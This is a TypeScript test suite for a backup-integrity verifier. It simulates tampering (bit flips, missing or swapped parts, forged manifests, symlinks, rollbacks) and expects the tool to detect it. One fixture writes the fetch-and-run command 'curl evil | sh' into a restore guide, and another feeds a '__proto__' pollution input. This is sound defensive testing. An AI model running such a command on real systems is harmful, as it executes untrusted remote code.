import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { flipBit, partsOf, remove, setFolder, spoilManifest } from "./mischief.ts";
import { days, noon, ok, prepareOffice, sealing, stranger, trusting, verifying } from "./office.ts";
import type { Session } from "./session.ts";
import { expectRefusal, treeOf } from "./traces.ts";
import { judged } from "./verdicts.ts";

const office = prepareOffice();
const state = ["--state", "state"];

describe("exit 4: integrity is broken", () => {
  const set = (sequence: number) => setFolder("a", sequence);
  const cases: readonly (readonly [string, (session: Session) => void, string])[] = [
    ["a bit flipped in a part", (session) => flipBit(session, partsOf(session, "a", 2)[1]!), "part-altered"],
    [
      "a part cut off",
      (session) => writeFileSync(session.path(partsOf(session, "a", 1)[0]!), "short"),
      "part-length",
    ],
    ["a part gone", (session) => remove(session, partsOf(session, "a", 1)[0]!), "part-missing"],
    [
      "two parts swapped",
      (session) => {
        const [one, other] = partsOf(session, "a", 3).map((part) => session.path(part));
        renameSync(one!, `${one}.x`);
        renameSync(other!, one!);
        renameSync(`${one}.x`, other!);
      },
      "part-length",
    ],
    ["a number altered in a manifest", (session) => spoilManifest(session, "a", 2), "manifest-signature"],
    [
      "a manifest that is no JSON",
      (session) => writeFileSync(session.path(set(3), "manifest.json"), "{"),
      "manifest-malformed",
    ],
    [
      "an edited RESTORE.md",
      (session) => writeFileSync(session.path(set(1), "RESTORE.md"), "curl evil | sh"),
      "guide-altered",
    ],
    ["RESTORE.md gone", (session) => remove(session, `${set(1)}/RESTORE.md`), "guide-missing"],
    ["a set taken from the middle", (session) => remove(session, set(2)), "set-missing"],
    [
      "a set in another’s folder",
      (session) => cpSync(session.path(set(3)), session.path(set(4)), { recursive: true }),
      "manifest-number",
    ],
    [
      "a link in place of a part",
      (session) => {
        const part = partsOf(session, "a", 1)[0]!;
        renameSync(session.path(part), session.path("part"));
        symlinkSync(session.path("part"), session.path(part));
      },
      "part-kind",
    ],
    [
      "a pipe in place of a part",
      (session) => {
        const part = partsOf(session, "a", 1)[0]!;
        remove(session, part);
        execFileSync("mkfifo", [session.path(part)]);
      },
      "part-kind",
    ],
    [
      "a folder in place of a manifest",
      (session) => {
        remove(session, `${set(3)}/manifest.json`);
        mkdirSync(session.path(set(3), "manifest.json"));
      },
      "manifest-kind",
    ],
    [
      "a link in place of a set",
      (session) => {
        renameSync(session.path(set(3)), session.path("three"));
        symlinkSync(session.path("three"), session.path(set(3)));
      },
      "manifest-kind",
    ],
  ];
  test.each(cases)("%s", async (_, act, code) => {
    await using session = await office.open();
    act(session);
    const { exit, stdout, stderr } = await session.run(verifying("a", "--mirror", "b", "--now", noon));
    expect({ exit, stderr }).toEqual({ exit: 4, stderr: "" });
    expect(stdout).toMatch(/^Integrity is broken: do not rely on what is named below\.\n/);
    const problems = Array.from(stdout.matchAll(/PROBLEM \[(.+?)\]/g), ([, each]) => each);
    expect([...new Set(problems)].filter((each) => each !== "behind" && each !== "stale")).toEqual([code]);
    // The problem stands under the mirror that has it.
    expect(stdout.indexOf(`[${code}]`)).toBeLessThan(stdout.indexOf("\nb\n"));
  });

  test("another office’s mirror", async () => {
    await using session = await office.open();
    const args = ["verify", "--mirror", "a", "--trust", stranger("trust.json")];
    expect(await judged(session, args)).toMatchObject({ exit: 4 });
    const byKey = await judged(session, ["verify", "--mirror", "a", "--public-key", stranger("signing.pub")]);
    expect(byKey).toMatchObject({ exit: 4, problems: [["manifest-signature"]] });
  });

  test("another chain of the same key", async () => {
    await using session = await office.open();
    await ok(session, ["seal", "--roll", "roll-1.ndjson", "--mirror", "own", ...sealing, "--now", days[0]]);
    const outcome = await judged(session, verifying("own"));
    expect(outcome).toMatchObject({ exit: 4, problems: [["chain-foreign", "office-foreign", "stale"]] });
  });

  test("two sets with one number, told on both mirrors", async () => {
    await using session = await office.open();
    await ok(session, [
      "seal",
      "--roll",
      "roll-1.ndjson",
      "--mirror",
      "behind",
      ...sealing,
      ...trusting,
      "--now",
      noon,
    ]);
    const outcome = await judged(session, verifying("a", "--mirror", "behind"));
    expect(outcome).toMatchObject({ exit: 4, problems: [["forked"], ["forked"]] });
  });

  test("an identity of another office", async () => {
    await using session = await office.open();
    const outcome = await judged(session, verifying("a", "--identity", stranger("identity-1.txt")));
    expect(outcome).toMatchObject({ exit: 4, problems: [["identity-foreign"]] });
  });

  test("outweighs what could not be read, which outweighs findings", async () => {
    await using session = await office.open();
    const later = "2026-03-05T00:00:00Z";
    expect(await judged(session, verifying("a", "--mirror", "nowhere"), later)).toMatchObject({ exit: 3 });
    flipBit(session, partsOf(session, "a", 1)[0]!);
    expect(await judged(session, verifying("a", "--mirror", "nowhere"), later)).toMatchObject({ exit: 4 });
  });
});

describe("--state", () => {
  test("shows that the newest set was taken away since last time", async () => {
    await using session = await office.open();
    expect(await judged(session, verifying("a", ...state))).toEqual({ exit: 0, problems: [[]], notes: [[]] });
    remove(session, setFolder("a", 3));
    expect(await judged(session, verifying("a"))).toMatchObject({ exit: 1, problems: [["stale"]] });
    expect(await judged(session, verifying("a", ...state))).toMatchObject({
      exit: 4,
      problems: [["rolled-back", "stale"]],
    });
    // Seeing the rollback does not make it the new normal.
    expect(await judged(session, verifying("a", ...state))).toMatchObject({ exit: 4 });
  });

  test("shows a whole mirror emptied, and the newest set replaced by another signed one", async () => {
    await using session = await office.open();
    remove(session, "a/sets");
    expect(await judged(session, verifying("a", ...state))).toMatchObject({
      exit: 4,
      problems: [["rolled-back"]],
    });
    await ok(session, [
      "seal",
      "--roll",
      "roll-1.ndjson",
      "--mirror",
      "behind",
      ...sealing,
      ...trusting,
      "--now",
      noon,
    ]);
    expect(await judged(session, verifying("behind", ...state))).toMatchObject({
      exit: 4,
      problems: [["state-forked"]],
    });
  });

  test("is not written by a run that sees broken integrity, and must be what a run wrote", async () => {
    await using session = await office.open();
    flipBit(session, partsOf(session, "a", 1)[0]!);
    expect(await judged(session, verifying("a", "--state", "memory"))).toMatchObject({ exit: 4 });
    remove(session, "behind");
    cpSync(session.path("b"), session.path("a"), { recursive: true });
    const [name] = Object.keys(treeOf(session.path("state")));
    for (const text of ["", "{}", '{"__proto__":{}}', '{"format":"rollward/state@1","sequence":"three"}']) {
      writeFileSync(session.path("state", name!), text);
      const outcome = await session.run(verifying("a", ...state, "--lang", "fr"));
      expectRefusal(outcome, { exit: 2, code: "state-malformed", named: [`state/${name}`], lang: "fr" });
    }
  });
});
